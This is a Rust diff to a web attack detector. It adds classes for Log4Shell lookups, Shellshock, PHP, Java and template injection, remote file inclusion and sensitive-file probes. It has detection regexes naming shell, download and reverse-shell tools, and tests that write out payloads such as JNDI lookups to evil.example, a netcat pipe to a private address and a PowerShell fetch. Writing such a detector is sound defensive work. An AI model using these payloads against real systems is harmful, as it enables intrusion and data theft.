@@ -2,10 +2,12 @@
 //! search (aho-corasick, one pass for all classes) picks the candidates; the regexes, which
 //! tell an attack from a word that merely looks like one, run only on those.
 
-use aho_corasick::AhoCorasick;
+use super::signs::*;
+use aho_corasick::{AhoCorasick, AhoCorasickKind};
 use regex::{Regex, RegexSet};
 
-/// A web attack class, in the order they are tried: the first that matches wins.
+/// A web attack class. [`CLASSES`] gives the order they are tried in: the first that matches
+/// wins.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum AttackClass {
     /// Shell commands smuggled into a parameter.
@@ -16,33 +18,117 @@ pub enum AttackClass {
     Traversal,
     /// Script smuggled into a page.
     CrossSiteScripting,
+    /// A `${jndi:...}` lookup for Log4j (or `${script:...}` for Commons Text) to resolve.
+    JndiLookup,
+    /// A bash function definition for a CGI environment variable (Shellshock).
+    Shellshock,
+    /// PHP code, a PHP stream wrapper or a superglobal smuggled into a parameter.
+    PhpInjection,
+    /// Java classes, OGNL or a serialized object smuggled into a parameter.
+    JavaInjection,
+    /// An expression for a server-side template engine to evaluate.
+    TemplateInjection,
+    /// A parameter that points the server at a remote file or an internal service.
+    RemoteFileInclusion,
+    /// A request for a file no site serves on purpose: secrets, repositories, backups, dumps.
+    SensitiveFile,
+    /// A request for a path only a known exploit (or an open-proxy check) asks for.
+    ExploitProbe,
 }
 
-/// Every class with its keywords (any one makes a candidate) and its confirming patterns.
-/// The last entry holds the SQL signs that scripts and markup share ([`WEAK_SQL`]): it has no
+/// How many classes there are.
+const CLASS_COUNT: usize = AttackClass::ExploitProbe as usize + 1;
+
+/// Where a class can be found: the request target only, or its headers too (User-Agent,
+/// Referer). Paths and parameter values mean nothing in a header.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Reach {
+    Target,
+    Headers,
+}
+
+/// What part of a request a text is.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Part {
+    /// The request target (path and query).
+    Target,
+    /// A header value: the User-Agent or the Referer.
+    Header,
+}
+
+/// Every class with where it is looked for, its keywords (any one makes a candidate) and its
+/// confirming patterns, in the order they are tried. Code that some engine runs comes first
+/// (a Log4Shell payload is full of shell words), then SQL, paths and markup, then remote
+/// inclusion (a script tag loading from a URL is cross-site scripting) and probes. The
+/// last entry holds the SQL signs that scripts and markup share ([`WEAK_SQL`]): it has no
 /// keywords of its own, and is tried only for requests the SQL keywords made candidates.
-const CLASSES: [(AttackClass, &[&str], &[Group]); 5] = [
+const CLASSES: [(AttackClass, Reach, &[&str], &[Group]); CLASS_COUNT + 2] = [
+    (
+        AttackClass::JndiLookup,
+        Reach::Headers,
+        &["${"],
+        &[(LOOKUP_SIGNS, Some(is_a_dangerous_lookup))],
+    ),
+    (
+        AttackClass::Shellshock,
+        Reach::Headers,
+        &["()"],
+        &[(SHELLSHOCK_SIGNS, None)],
+    ),
     (
         AttackClass::CommandInjection,
+        Reach::Headers,
+        COMMAND_KEYWORDS,
+        &[(COMMAND_SIGNS, None), (BACKTICK_SIGNS, Some(backticks_run_a_command))],
+    ),
+    (
+        AttackClass::CommandInjection,
+        Reach::Target,
+        COMMAND_KEYWORDS,
+        &[(COMMAND_AFTER_A_SEPARATOR, None)],
+    ),
+    (
+        AttackClass::TemplateInjection,
+        Reach::Headers,
         &[
-            ";",
-            "|",
-            "&",
-            "`",
-            "$(",
-            "/bin/",
-            "cmd",
-            "powershell",
-            "${ifs}",
-            "system(",
-            "exec",
-            "ping",
-            "#",
+            "{{",
+            "${",
+            "#{",
+            "*{",
+            "<%",
+            "{%",
+            "<#",
+            "freemarker",
+            "#set",
+            "__class__",
         ],
-        &[(COMMAND_SIGNS, None)],
+        &[(TEMPLATE_SIGNS, None)],
+    ),
+    (
+        AttackClass::JavaInjection,
+        Reach::Headers,
+        &[
+            "java",
+            "org.apache",
+            "com.opensymphony",
+            "org.spring",
+            "processbuilder",
+            "getruntime",
+            "classloader",
+            "getclass",
+            "forname",
+            "scriptengine",
+            "objectinputstream",
+            "memberaccess",
+            "ognl",
+            "ro0ab",
+            "aced0005",
+        ],
+        &[(JAVA_SIGNS, None)],
     ),
     (
         AttackClass::SqlInjection,
+        Reach::Headers,
         &[
             "select",
             "union",
@@ -80,17 +166,32 @@ const CLASSES: [(AttackClass, &[&str], &[Group]); 5] = [
             "group by",
             "=",
             "like",
+            "::",
+            "when",
+            "immediate",
+            "if(",
+            "if (",
+            "json_",
+            "jsonb_",
+            "unistr",
         ],
         &[(SQL_SIGNS, None), (SELECT_STATEMENTS, Some(reads_as_a_query))],
     ),
     (
+        AttackClass::PhpInjection,
+        Reach::Headers,
+        &["<?", "php", "://", "$_", "$globals", "$", "("],
+        &[(PHP_SIGNS, None)],
+    ),
+    (
         AttackClass::Traversal,
+        Reach::Target,
         &[
             "..",
             "etc",
             "boot.ini",
             "win.ini",
-            "proc/self",
+            "proc/",
             "c:/",
             "system32",
             "%00",
@@ -106,6 +207,7 @@ const CLASSES: [(AttackClass, &[&str], &[Group]); 5] = [
     ),
     (
         AttackClass::CrossSiteScripting,
+        Reach::Headers,
         &[
             "<",
             "javascript:",
@@ -116,32 +218,207 @@ const CLASSES: [(AttackClass, &[&str], &[Group]); 5] = [
             "document.",
             "expression(",
             "&#",
+            "prompt",
+            "confirm",
+            "formaction",
+            "+adw-",
+            "phnjcmlwd",
+            "settimeout",
+            "setinterval",
+            "atob",
+            "btoa",
+            "function",
         ],
         &[(SCRIPT_SIGNS, None)],
     ),
     (
+        AttackClass::RemoteFileInclusion,
+        Reach::Target,
+        &["://", "jar:", "xxpathxx", "@rfiurl"],
+        &[(REMOTE_INCLUSION_SIGNS, None)],
+    ),
+    (
+        AttackClass::SensitiveFile,
+        Reach::Target,
+        &[
+            "/.",
+            "wp-config",
+            ".bak",
+            ".old",
+            ".orig",
+            ".save",
+            ".sw",
+            "~",
+            ".sql",
+            ".db",
+            ".mdb",
+            ".dump",
+            ".sqlite",
+            "backup",
+            "dump",
+            ".zip",
+            ".tar",
+            ".tgz",
+            ".gz",
+            ".rar",
+            ".7z",
+            "server-",
+            "phpinfo",
+            "actuator",
+            "debug.log",
+            "debug_log",
+            "debug-log",
+            "error.log",
+            "error_log",
+            "error-log",
+            "errors.log",
+            "errors_log",
+            "id_rsa",
+            "id_dsa",
+            "web.config",
+            "htpasswd",
+            "htaccess",
+            "ws_ftp",
+            "passwd.",
+        ],
+        &[
+            (HIDDEN_FILE_SIGNS, Some(is_not_a_well_known_uri)),
+            (SENSITIVE_FILE_SIGNS, None),
+        ],
+    ),
+    (
+        AttackClass::ExploitProbe,
+        Reach::Target,
+        EXPLOIT_PROBE_KEYWORDS,
+        &[(EXPLOIT_PROBE_SIGNS, None)],
+    ),
+    (
         AttackClass::SqlInjection,
+        Reach::Target,
         &[],
         &[(WEAK_SQL, None), (QUOTED_SQL, Some(breaks_out_of_a_string))],
     ),
 ];
 
-/// Shell commands, and the separators, substitutions and calls that smuggle them in.
+/// The commands an injection runs: to look around, fetch a second stage, open a shell or
+/// leave a mark. Unix and Windows, since a payload rarely knows which it will land on.
+macro_rules! shell_commands {
+    () => {
+        r"(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|socat|bash|sh|zsh|ksh|csh|tcsh|dash|ash|busybox|ping|nslookup|dig|host|sleep|echo|printf|rm|chmod|chown|chgrp|touch|mkdir|cp|mv|ln|kill|killall|pkill|ps|env|export|crontab|useradd|passwd|sudo|su|nohup|xxd|awk|find|head|tail|grep|hostname|ifconfig|ipconfig|netstat|ss|lsof|pwd|python[0-9.]*|perl|php|ruby|node|lua|java|gcc|telnet|ssh|scp|nmap|tftp|ftp|net\s+(?:user|localgroup|view|share|use)|type|dir|ver|systeminfo|tasklist|taskkill|whoami\.exe|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|iwmi|iwr|irm|iex|reg|schtasks|bcdboot|cmd|powershell|pwsh|del|copy|move|ren)"
+    };
+}
+
+/// What may follow a command word: an argument, another shell operator, or the end. A `=`
+/// makes it a parameter name (`&id=5` is a query, not `id`).
+macro_rules! after_a_command {
+    () => {
+        r"(?:[\s;|&<>`)'\x22$]|$)"
+    };
+}
+
+/// Words that make a request a candidate for command injection.
+const COMMAND_KEYWORDS: &[&str] = &[
+    "iwr",
+    "irm",
+    "wget ",
+    "curl ",
+    ";",
+    "|",
+    "&",
+    "`",
+    "$(",
+    "\n",
+    "/bin/",
+    "cmd",
+    "powershell",
+    "${ifs}",
+    "$ifs",
+    "system(",
+    "exec",
+    "ping",
+    "#",
+    "invoke-",
+    "net.webclient",
+    "download",
+    "-encodedcommand",
+    "frombase64string",
+    "start-process",
+    "for ",
+    "if ",
+    "?/",
+    "*/",
+    " -c",
+    " -e",
+    " -r",
+    "busybox",
+    "rem",
+];
+
+/// A shell operator, a newline or a substitution, then a command. A lone `&` separates
+/// query parameters, so after one the command must have an argument too. Not in headers: a
+/// User-Agent is a list of products split by `;` (`compatible; Nmap Scripting Engine`).
+const COMMAND_AFTER_A_SEPARATOR: &[&str] = &[
+    concat!(
+        r"(?:[;|\n]|&&|&\s|\$\()\s*(?:/?(?:usr/)?s?bin/)?",
+        shell_commands!(),
+        after_a_command!()
+    ),
+    concat!(r"&", shell_commands!(), r"\s+[^\s&]"),
+    r"[&|;]\s*rem(?:[\s;&|,]|$)",
+];
+
+/// Shell commands smuggled in by substitutions, shells and interpreters called by name,
+/// and the calls that run them: signs that hold in a header as well as in a parameter.
 const COMMAND_SIGNS: &[&str] = &[
-    r"(?:;|\||&|`|\$\()\s*(?:/?(?:usr/)?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ping|nslookup|dig|sleep|echo|rm|chmod|python[0-9.]*|perl|php|ruby|telnet|ifconfig|ipconfig|netstat|net\s+user|type|dir|systeminfo|tftp|ftp)\b",
-    r"/(?:usr/)?bin/(?:id|cat|ls|whoami|uname|wget|curl|nc)\b",
+    r"/(?:usr/)?s?bin/(?:id|cat|ls|whoami|uname|wget|curl|nc|busybox|python[0-9.]*|perl)\b",
     r"<!--\s*#\s*exec\b",
-    r"\b(?:system|passthru|shell_exec|popen|proc_open|exec)\s*\(\s*['\x22]",
+    r"\b(?:system|passthru|shell_exec|popen|proc_open|exec|pcntl_exec)\s*\(\s*['\x22]",
     r"\bping(?:\.exe)?\s+-[nic]\s+\d+",
-    r"`[^`]*\b(?:cat|ls|id|whoami|uname|wget|curl|sleep|ping|echo)\b[^`]*`",
-    r"\$\(\s*(?:cat|ls|id|whoami|uname|wget|curl|sleep|ping|echo)\b",
-    r"/bin/(?:ba|z|da)?sh\b",
+    concat!(r"\$\(\s*(?:/?(?:usr/)?s?bin/)?", shell_commands!(), after_a_command!()),
+    r"/bin/(?:ba|z|da|k|c|tc)?sh\b",
+    r"\b(?:ba|z|da|k|c|tc)?sh\s+-c\s",
+    r"\bbusybox\s+[a-z]",
+    r"\b(?:python[0-9.]*|perl|ruby|php|node|lua)\s+-[ecr]\s",
     r"\bcmd(?:\.exe)?\s*/[ck]\b",
-    r"\bpowershell(?:\.exe)?\s+-",
-    r"\$\{ifs\}",
+    r"\b(?:powershell|pwsh)(?:\.exe)?\s+-",
+    r"\$\{ifs\}|\$ifs",
+    // Shell arithmetic, which a probe echoes to see it evaluated (`$((20+23))`).
+    r"\$\(\(\s*\d+\s*[-+*/%]\s*\d+\s*\)\)",
+    // PowerShell fetching or running a second stage.
+    r"\b(?:invoke-(?:webrequest|expression|restmethod)|start-process)\b|\bnew-object\s+(?:system\.)?net\.webclient\b|\.download(?:string|file|data)\s*\(|-encodedcommand\b|\bfrombase64string\s*\(",
+    r"\b(?:iwr|irm|wget|curl)\s+(?:-[\w-]+\s+)*['\x22(]?(?:https?|ftp)://",
+    // Windows batch: `for %i in (...) do`, `if %x% equ 1 echo`.
+    r"\bfor\s+(?:/[a-z](?:\s+\x22[^\x22]*\x22)?\s+)*%{1,2}[^\s]\s+in\s*\(",
+    r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:defined\s+[%\w]+\s+\S|exist\s+\S|errorlevel\s+\d|[^\s=(]+\s*==[^=]|\(?[^\s=]+\s+(?:equ|neq|lss|leq|gtr|geq)\s)",
+    // Wildcards standing in for a path a filter would know (`/???/c?t /???/p??s??`).
+    r"(?:^|[\s;|&=`(])/[a-z?*]{0,4}[?*][a-z?*]*/[a-z?*]*[?*]",
     // A command, then `#` to comment out the rest of the command line it lands in.
     r"(?:^|[\s'\x22=;&|`(])(?:sleep\s+\d+|uname(?:\s+-[a-z]+)?|(?:rm|del)\s+(?:-[a-z]+\s+)?[\w./-]+|id|whoami|ls(?:\s+-[a-z]+)?|cat\s+[\w./-]+)(?:\s*>\s*[\w./-]+)?\s*#\s*$",
 ];
+
+/// A command in backticks, which the shell runs and replaces by its output. Markdown quotes
+/// words the same way ([`backticks_run_a_command`]).
+const BACKTICK_SIGNS: &[&str] = &[concat!(
+    r"`\s*(?:/?(?:usr/)?s?bin/)?",
+    shell_commands!(),
+    r"(?:[\s;|&<>)'\x22][^`]*)?`"
+)];
+
+/// Whether the backticks at `at` would run their command rather than quote a word in prose:
+/// they open a parameter value or touch the text before them (`host=`id``, `1.1.1.1`id``),
+/// or the command has an argument that reads as one (`` `cat /etc/passwd` ``, `` `ls -la` ``).
+/// "run `ls` first" is a sentence.
+fn backticks_run_a_command(text: &str, at: usize) -> bool {
+    let (before, rest) = text.split_at_checked(at).unwrap_or((text, ""));
+    let opens_the_value =
+        before.is_empty() || before.ends_with(['=', '?', '&']) || !before.ends_with(char::is_whitespace);
+    let quoted = rest.get(1..).and_then(|inner| inner.split('`').next()).unwrap_or("");
+    let has_an_argument = quoted
+        .split_whitespace()
+        .skip(1)
+        .any(|argument| argument.starts_with(['-', '/', '$', '.', '~']) || argument.contains('/'));
+    opens_the_value || has_an_argument
+}
 
 /// A `select` statement, as long as it does not stop on a clause still waiting for its
 /// operand ([`reads_as_a_query`]).
@@ -164,19 +441,31 @@ const SQL_SIGNS: &[&str] = &[
     r"\b(?:exec|execute)\s*(?:\(|\s+(?:master|xp_|sp_))",
     r"\b(?:cast|convert)\s*\(.+?\b(?:as|using)\b",
     r"\b(?:char|chr|nchar|ascii|substring|substr|mid|ord|hex|unhex|version|database|user|schema)\s*\(\s*(?:\d|select|@@|\))",
-    r"\b(?:order|group)\s+by\s+\d+\s*(?:--|#|$|\)|')",
+    r"\b(?:order|group)\s+by\s+\d+(?:\s*,\s*\d+)*\s*(?:--|#|$|\)|')",
     r"\bhaving\s+\d+\s*=\s*\d+",
     r"\binsert\s+into\b",
     r"\bdelete\s+from\b",
     r"\bdrop\s+(?:table|database|schema|view|procedure|function)\b",
     r"\bupdate\s+\w+\s+set\b",
     r"\bnull\s*,\s*null\b",
+    // PostgreSQL: a cast or a JSON operator on a string the request closed.
+    r#"['")]\s*::\s*(?:jsonb?|int|integer|text|varchar|regclass|bytea|numeric)\b"#,
+    r#"['"]\s*(?:\?[|&]?|@>|<@|#>>?|->>?|#-|@\?|@@)\s*(?:['"]|array\s*\[)"#,
+    r"\b(?:json_extract|json_build_object|jsonb_pretty|unistr)\s*\(",
+    r"\bcase\s+when\b.{1,100}?\bthen\b",
+    r"\bhaving\s+(?:count|sum|min|max|avg)\s*\(",
+    r"\bexecute\s+immediate\b",
+    r"\bpg_sleep\b",
+    r"\bif\s*\(\s*\d+\s*[=<>]",
+    r"\bunion\s+all\b",
 ];
 
 /// Paths climbing out of the web root, and the files they are after.
 const TRAVERSAL_SIGNS: &[&str] = &[
     // Right after a quote, `../` is a relative link in markup (`<a href="../">`).
     r#"(?:^|[^'"])\.{2,}/"#,
+    // Tomcat reads `..;/` as `../` where a proxy in front sees a path parameter (F5 BIG-IP).
+    r"/\.\.;/",
     // A path ending in `..` (the parent); three dots at the end are an ellipsis.
     r"(?:^|[/=])(?:\.{2,}\{|\.\.$)",
     // Scanners (DotDotPwn and friends) spell the dots and slashes out in hex.
@@ -185,7 +474,7 @@ const TRAVERSAL_SIGNS: &[&str] = &[
     r"(?:/\.){2,}/",
     // No file or directory name is longer than 255 bytes: a longer one ending in dots
     // is there to push the real path past a length limit that truncates it.
-    r"[^/?&=]{256,}\.\.",
+    r"[^/?&=\s]{256,}\.{2,}[^.&\s]",
     // An absolute path padded with slashes, to slip past a check for a leading `/`.
     r"(?:^|=)/{3,}[^/\s]",
     // Backslashes lost on the way (d:\inetpub\wwwroot) leave the names run together.
@@ -197,10 +486,12 @@ const TRAVERSAL_SIGNS: &[&str] = &[
     r"/etc/(?:passwd|shadow|group|hosts|issue|motd|sudoers|crontab|ssh/)",
     r"(?:boot|win|system)\.ini\b",
     r"/proc/(?:self|\d+)/(?:environ|cmdline|fd|maps|status|root|cwd)",
+    r"/proc/(?:version|cpuinfo|meminfo|interrupts|mounts|net/(?:arp|tcp|route))\b",
     r"\bc:/(?:windows|winnt|inetpub|boot\.ini)",
     r"\bwindows/system32\b",
     r"\x{0}|%00",
-    r"\bfile:/{2,}",
+    // Not an unexpanded `file://$file` in a page's link.
+    r"\bfile:/{2,}[^$\s]",
 ];
 
 /// Markup and script a page would run.
@@ -217,6 +508,15 @@ const SCRIPT_SIGNS: &[&str] = &[
     r"&#x?0*(?:3c|60|58|106|74);?",
     r"\bdata\s*:\s*text/html",
     r"<!--|-->|<!\[cdata\[",
+    // Any handler, even one no browser has yet, as an attribute after a space or a quote.
+    r#"[\s"'/]on[a-z]{3,}\s*=\s*['"\w(]"#,
+    r#"[\s"'/]formaction\s*="#,
+    r"<\s*[a-z]+\s*:\s*script\b",
+    // UTF-7 `<` (`+ADw-`), for pages a browser can be made to read as UTF-7.
+    r"\+adw-",
+    // `<script` in base64, for a page that decodes a parameter into itself.
+    r"\bphnjcmlwd",
+    r"\b(?:settimeout|setinterval|atob|btoa)\s*\(|\bnew\s+function\s*\(",
 ];
 
 /// An SQL comment that cuts the query off: nothing but a filler character (`-- -a`) after it
@@ -244,7 +544,8 @@ const WEAK_SQL: &[&str] = &[
         comment_ending_the_value!(),
         ")"
     ),
-    r#"\b(?:or|and|xor)\b\s+[\w'"(]+\s*(?:=|<>|!=|<|>|\blike\b|\bis\b|\bbetween\b|\bin\s*\()"#,
+    // Only the operators prose does not use: "and that is", "or those like it" are English.
+    r#"\b(?:or|and|xor)\b\s+[\w'"(]+\s*(?:=|<>|!=|<|>|\blike\s+['"%]|\bis\s+(?:not\s+)?null\b|\bbetween\s+['"\d]|\bin\s*\()"#,
     r"\b(?:or|and)\b\s+(?:not\s+)?(?:true|false)\b",
     r"(?:^|=)\s*-?\d+\s+(?:or|and)\s+-?[01]\s*(?:&|$)",
     concat!(
@@ -252,6 +553,10 @@ const WEAK_SQL: &[&str] = &[
         comment_ending_the_value!()
     ),
     r#"^\s*['"]\s*$"#,
+    // A quote before a number that starts the value: a probe for a numeric parameter.
+    r"(?:^|=)\s*'\d+\s*(?:&|$)",
+    // A quote closing an id (`id=42'`, `sid='`): a probe for an error page.
+    r"=\s*(?:[\w-]*\d[\w-]*)?'\s*(?:&|$)",
 ];
 
 /// A quote, then an SQL operator or clause with something SQL after it: `' OR 1`,
@@ -316,10 +621,20 @@ fn reads_as_a_query(text: &str, at: usize) -> bool {
 /// All classes' matchers, built once.
 pub struct Patterns {
     keywords: AhoCorasick,
-    /// For each keyword, the class it belongs to.
-    keyword_class: Vec<AttackClass>,
+    /// For each keyword, the class it belongs to and whether it makes a header a candidate.
+    keyword_class: Vec<(AttackClass, bool)>,
+    /// The keywords that make a header a candidate, matched on the raw header, any case.
+    header_keywords: AhoCorasick,
     confirm: Vec<Confirming>,
 }
+
+/// Keywords too common in a header to make it a candidate: every User-Agent has `;`, `(`
+/// and `like Gecko`, every Referer `://`, `=` and `&`. The header signs all have a keyword
+/// of their own besides these.
+const COMMON_IN_HEADERS: &[&str] = &[
+    ";", "|", "&", "(", "on", "=", "'", "\"", "#", "--", " or ", " and ", "||", "&&", "like", "\n", "$", "://", "?/",
+    " -c", " -e", " -r", "for ", "if ", "if (", "java", "rem", "when", "::", "json_", "function", "confirm",
+];
 
 /// What a match must also satisfy, given the text and where the match starts.
 type Guard = fn(&str, usize) -> bool;
@@ -331,6 +646,7 @@ type Group = (&'static [&'static str], Option<Guard>);
 /// matched run again alone for the text it matched (only attacks pay for that).
 struct Confirming {
     class: AttackClass,
+    reach: Reach,
     any: RegexSet,
     each: Vec<(Regex, Option<Guard>)>,
 }
@@ -338,7 +654,7 @@ struct Confirming {
 impl Confirming {
     /// `groups` in order of preference, each a list of patterns with the guard its matches
     /// must pass, if any.
-    fn new(class: AttackClass, groups: &[Group]) -> Self {
+    fn new(class: AttackClass, reach: Reach, groups: &[Group]) -> Self {
         // Our own constant patterns: a failure to compile is a bug caught by the tests.
         let each: Vec<(Regex, Option<Guard>)> = groups
             .iter()
@@ -349,7 +665,12 @@ impl Confirming {
             })
             .collect();
         let any = RegexSet::new(each.iter().map(|(regex, _)| regex.as_str())).unwrap_or_else(|_| RegexSet::empty());
-        Confirming { class, any, each }
+        Confirming {
+            class,
+            reach,
+            any,
+            each,
+        }
     }
 
     /// The text the first matching pattern matched (the first match its guard lets through).
@@ -375,40 +696,79 @@ impl Default for Patterns {
 impl Patterns {
     /// Compiles every pattern.
     pub fn new() -> Self {
-        let mut keywords = Vec::new();
-        let mut keyword_class = Vec::new();
+        let mut keywords: Vec<&str> = Vec::new();
+        let mut keyword_class: Vec<(AttackClass, bool)> = Vec::new();
         let mut confirm = Vec::new();
-        for (class, words, groups) in CLASSES {
+        for (class, reach, words, groups) in CLASSES {
             for word in words {
-                keywords.push(*word);
-                keyword_class.push(class);
+                let in_headers = reach == Reach::Headers && !COMMON_IN_HEADERS.contains(word);
+                match keywords
+                    .iter()
+                    .zip(keyword_class.iter_mut())
+                    .find(|(known, (known_class, _))| *known == word && *known_class == class)
+                {
+                    Some((_, (_, counted))) => *counted |= in_headers,
+                    None => {
+                        keywords.push(word);
+                        keyword_class.push((class, in_headers));
+                    }
+                }
             }
-            confirm.push(Confirming::new(class, groups));
+            confirm.push(Confirming::new(class, reach, groups));
         }
+        let header_keywords: Vec<&str> = keywords
+            .iter()
+            .zip(&keyword_class)
+            .filter(|(_, (_, in_headers))| *in_headers)
+            .map(|(word, _)| *word)
+            .collect();
         Patterns {
             // A few dozen constant keywords always build.
-            keywords: AhoCorasick::new(&keywords).expect("constant keywords build"),
+            // A DFA: a few hundred keywords make a small one, and every request runs it.
+            keywords: AhoCorasick::builder()
+                .kind(Some(AhoCorasickKind::DFA))
+                .build(&keywords)
+                .expect("constant keywords build"),
             keyword_class,
+            header_keywords: AhoCorasick::builder()
+                .ascii_case_insensitive(true)
+                .build(&header_keywords)
+                .expect("constant keywords build"),
             confirm,
         }
     }
 
-    /// The first class whose patterns match `normalized`, with the matched text.
+    /// The first class whose patterns match `normalized`, the normalised request target,
+    /// with the matched text.
     pub fn classify<'t>(&self, normalized: &'t str) -> Option<(AttackClass, &'t str)> {
-        let mut candidates = [false; 4];
+        self.classify_part(normalized, Part::Target)
+    }
+
+    /// The first class whose patterns match `normalized`, a normalised part of a request:
+    /// a header is tried only for the classes that can ride in one.
+    pub fn classify_part<'t>(&self, normalized: &'t str, part: Part) -> Option<(AttackClass, &'t str)> {
+        let mut candidates = [false; CLASS_COUNT];
         for found in self.keywords.find_overlapping_iter(normalized) {
-            if let Some(class) = self.keyword_class.get(found.pattern().as_usize()) {
-                candidates[*class as usize] = true;
+            if let Some(&(class, in_headers)) = self.keyword_class.get(found.pattern().as_usize()) {
+                candidates[class as usize] |= part == Part::Target || in_headers;
             }
         }
         self.confirm
             .iter()
             .filter(|confirming| candidates[confirming.class as usize])
+            .filter(|confirming| part == Part::Target || confirming.reach == Reach::Headers)
             .find_map(|confirming| {
                 confirming
                     .first_match(normalized)
                     .map(|found| (confirming.class, found))
             })
+    }
+
+    /// Whether a raw header value (a User-Agent, a Referer) is worth normalising and
+    /// classifying: it holds a keyword that counts in headers, or an escape that may hide one.
+    /// Ordinary agents and referrers are turned away here, without an allocation.
+    pub fn header_may_carry_an_attack(&self, raw: &str) -> bool {
+        raw.contains('%') || raw.contains("\\x") || self.header_keywords.is_match(raw)
     }
 
     /// How many confirming patterns compiled (every one should).
@@ -442,7 +802,7 @@ mod tests {
     fn every_pattern_compiles() {
         let total: usize = CLASSES
             .iter()
-            .flat_map(|(_, _, groups)| groups.iter())
+            .flat_map(|(_, _, _, groups)| groups.iter())
             .map(|(patterns, _)| patterns.len())
             .sum();
         assert_eq!(patterns().compiled(), total);
@@ -481,6 +841,124 @@ mod tests {
             ("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", CrossSiteScripting),
         ] {
             assert_eq!(class_of(raw), Some(class), "{raw}");
+        }
+    }
+
+    fn header_class_of(raw: &str) -> Option<AttackClass> {
+        let mut normalized = String::new();
+        normalize(raw, &mut normalized);
+        patterns()
+            .classify_part(&normalized, Part::Header)
+            .map(|(class, _)| class)
+    }
+
+    #[test]
+    fn the_classes_scanners_send_are_caught() {
+        use AttackClass::*;
+        for (raw, class) in [
+            ("/?x=${jndi:ldap://evil.example/a}", JndiLookup),
+            ("/?x=${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://e/a}", JndiLookup),
+            ("/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}", JndiLookup),
+            ("/?x=${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://e/a}", JndiLookup),
+            ("/?x=${jndi:${lower:l}${lower:d}a${lower:p}://e/a}", JndiLookup),
+            (
+                "/?search=%24%7Bscript%3Ajs%3Ajava.lang.Runtime.getRuntime%28%29%7D",
+                JndiLookup,
+            ),
+            ("/cgi-bin/test.cgi?x=() { :; }; /bin/id", Shellshock),
+            ("/p?file=http://evil.example/shell.txt?", RemoteFileInclusion),
+            ("/p?page=http://evil.example/shell.txt", RemoteFileInclusion),
+            ("/p?x=gopher://127.0.0.1:6379/_flushall", RemoteFileInclusion),
+            ("/p?x=<?php system($_GET['c']); ?>", PhpInjection),
+            ("/p?page=php://input", PhpInjection),
+            ("/p?page=data://text/plain;base64,PD9waHA=", PhpInjection),
+            ("/p?page=expect://id", PhpInjection),
+            ("/p?x=$_SERVER['x']", PhpInjection),
+            ("/p?name={{7*7}}", TemplateInjection),
+            ("/p?name=${7*7}", TemplateInjection),
+            ("/p?name=#{7*7}", TemplateInjection),
+            ("/p?name={{''.__class__.__mro__}}", TemplateInjection),
+            ("/p?x=java.lang.Runtime", JavaInjection),
+            ("/p?class.module.classLoader.URLs%5B0%5D=0", JavaInjection),
+            ("/p?x=%28%23_memberAccess%3D1%29", JavaInjection),
+            ("/.git/config", SensitiveFile),
+            ("/.env", SensitiveFile),
+            ("/wp-config.php.bak", SensitiveFile),
+            ("/server-status", SensitiveFile),
+            ("/backup.sql.gz", SensitiveFile),
+            ("/db_2024-01-01.zip", SensitiveFile),
+            ("/setup/setupadministrator.action", ExploitProbe),
+            (
+                "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/f5-release",
+                Traversal,
+            ),
+            ("/ping?host=x;touch x", CommandInjection),
+            ("/ping?host=$(id)", CommandInjection),
+            ("/ping?host=x;cat${IFS}/etc/passwd", CommandInjection),
+            ("/ping?host=x|nc 10.0.0.1 4444", CommandInjection),
+            ("/ping?host=x%0aid", CommandInjection),
+            ("/ping?host=x %26 dir c:\\", CommandInjection),
+            ("/p?x=iwr http://evil.example/a.ps1", CommandInjection),
+            ("/p?x=for /f %i in ('dir') do echo %i", CommandInjection),
+            ("/q?id=1 order by 1,2,3--", SqlInjection),
+            ("/q?id=1;drop table users", SqlInjection),
+            ("/q?id=1 and sleep(5)", SqlInjection),
+            ("/q?id=1 and benchmark(1000000,md5(1))", SqlInjection),
+            ("/q?id=1;waitfor delay '0:0:5'", SqlInjection),
+            ("/q?id=1;select pg_sleep(5)", SqlInjection),
+        ] {
+            assert_eq!(class_of(raw), Some(class), "{raw}");
+        }
+    }
+
+    #[test]
+    fn headers_are_read_for_the_classes_that_ride_in_them() {
+        use AttackClass::*;
+        assert_eq!(header_class_of("${jndi:ldap://e/a}"), Some(JndiLookup));
+        assert_eq!(header_class_of("() { :; }; /bin/bash -c 'id'"), Some(Shellshock));
+        assert_eq!(
+            header_class_of("' union select user,pass from users--"),
+            Some(SqlInjection)
+        );
+        // Products split by `;` are a User-Agent, not a command line.
+        for agent in [
+            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
+            "curl/7.68.0",
+            "Java/1.8.0_151",
+        ] {
+            assert_eq!(header_class_of(agent), None, "{agent}");
+        }
+        // A path or a parameter value in a header means nothing.
+        assert_eq!(header_class_of("https://example.com/.env"), None);
+    }
+
+    #[test]
+    fn benign_text_that_looks_like_an_attack_is_not_one() {
+        for raw in [
+            // A parameter named after a command is a query.
+            "/item?x=1&id=5",
+            "/item?x=1&cat=shoes",
+            "/p?a=b;ls=1",
+            // A long value ending in dots is prose, not path truncation.
+            &format!("/search?q={}..", "lorem ipsum ".repeat(30)),
+            // A word in backticks is markdown.
+            "/comment?text=run+%60ls%60+first",
+            "/comment?text=use+%60cat%60+to+read+it",
+            // English with "and ... is".
+            "/search?q=cats+and+that+is+all",
+            "/search?q=rock+or+roll+is+fine",
+            "/search?q=this+and+those+like+it",
+            // An unexpanded template variable in a link.
+            "/scripts//%22file://$file/%22",
+            "/.well-known/security.txt",
+            "/blog/c-assert()-considered-harmful",
+            "/p?redirect_uri=https://app.example.com/callback",
